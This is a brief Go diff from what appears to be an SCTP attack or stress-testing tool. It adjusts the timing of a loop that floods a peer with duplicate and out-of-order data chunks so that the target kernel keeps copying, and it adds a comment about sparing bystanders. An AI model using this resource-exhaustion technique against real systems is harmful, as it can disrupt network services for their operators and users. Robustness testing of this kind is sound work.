@@ -37,7 +37,8 @@ var onSCTP = []attack{
 		raw: func(p *peer) {
 			a := p.associate()
 			duplicate := a.data(a.first, 3, make([]byte, 8100))
-			for a.packet(duplicate); p.ok(); p.sleep(time.Millisecond) {
+			// At a faster pace, the kernel is busy with copying at the cost of the bystanders.
+			for a.packet(duplicate); p.ok(); p.sleep(8 * time.Millisecond) {
 				a.next += 2
 				a.packet(a.data(a.next, 0, []byte{1}), duplicate)
 				if a.next > a.first+1<<15 {
